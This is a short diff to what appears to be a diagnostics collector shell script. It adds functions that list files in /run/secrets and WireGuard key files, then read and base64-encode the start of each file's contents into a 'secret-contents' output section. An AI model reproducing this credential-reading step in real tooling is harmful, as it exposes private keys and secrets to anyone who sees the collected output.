@@ -1,0 +1,18 @@
+# Secret files by what may be known of them, and their content, which the collector seals and drops.
+secret_files() {
+  for file in /run/secrets/* "${WG_PRIVATE_KEY_FILE:-}" "${WG_PRESHARED_KEY_FILE:-}" "${WG_PEER_PUBLIC_KEY_FILE:-}"; do
+    if [ -f "$file" ]; then stat -L -c '%n %a %u' "$file"; fi
+  done
+}
+
+secret_contents() {
+  secret_files | while read -r file _rest; do
+    printf '%s ' "$file"
+    head -c 4096 "$file" | base64 | tr -d '\n'
+    echo
+  done
+}
+
+section netns readlink /proc/self/ns/net
+section secret-files secret_files
+section secret-contents secret_contents
